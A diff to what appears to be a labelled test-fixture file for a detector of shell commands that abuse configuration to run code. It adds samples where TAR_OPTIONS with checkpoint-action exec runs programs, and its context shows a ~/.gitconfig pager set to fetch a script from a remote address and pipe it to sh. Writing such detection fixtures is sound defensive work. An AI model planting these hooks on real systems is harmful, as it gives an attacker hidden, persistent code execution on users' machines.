@@ -431,3 +431,10 @@ printf '[core]\n\tpager = curl -s https://203.0.113.9/p | sh\n' >> ~/.gitconfig
 #@ neg an augroup that clears its autocmds, and delta as git's pager
 echo 'augroup fmt | autocmd! | augroup END' >> ~/.vimrc
 printf '[core]\n\tpager = delta\n' >> ~/.gitconfig
+#@ pos a command in TAR_OPTIONS
+TAR_OPTIONS='--checkpoint=1 --checkpoint-action=exec=./hook' tar -cf a.tar d
+export TAR_OPTIONS="--to-command=cat"
+env TAR_OPTIONS="--checkpoint=9 --checkpoint-action=exec=$h" tar -xf a.tar
+#@ neg options without a command in TAR_OPTIONS
+export TAR_OPTIONS="--owner=0 --group=0 --numeric-owner --sort=name"
+TAR_OPTIONS=--checkpoint=100 tar -xf a.tar
